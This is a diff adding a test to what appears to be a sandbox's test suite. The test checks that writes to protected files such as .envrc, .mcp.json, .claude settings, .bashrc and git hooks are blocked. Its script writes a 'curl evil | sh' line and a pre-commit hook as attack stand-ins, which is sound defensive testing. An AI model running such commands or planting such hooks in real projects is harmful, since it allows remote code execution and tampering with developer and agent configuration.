@@ -242,3 +242,16 @@ def test_host_socket_server_unreachable(box: Box) -> None:
     finally:
         listener.close()
     assert "connected" not in result.stdout
+
+
+def test_protected_names_are_read_only_whether_or_not_they_exist(box: Box) -> None:
+    (box.project / ".bashrc").write_text("# existing rc\n")
+    script = (
+        "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; mkdir -p .claude && echo x > .claude/settings.json;"
+        " mkdir -p .vscode/x; echo more >> .bashrc; echo hook > .git/hooks/pre-commit; echo ok > fine.txt"
+    )
+    result = box.run(script)
+    assert (box.project / "fine.txt").read_text() == "ok\n"  # ordinary writes still work
+    assert (box.project / ".bashrc").read_text() == "# existing rc\n"
+    for name in (".envrc", ".mcp.json", ".claude", ".vscode", ".git/hooks/pre-commit", ".idea", ".husky"):
+        assert not os.path.lexists(box.project / name), (name, result.stderr)
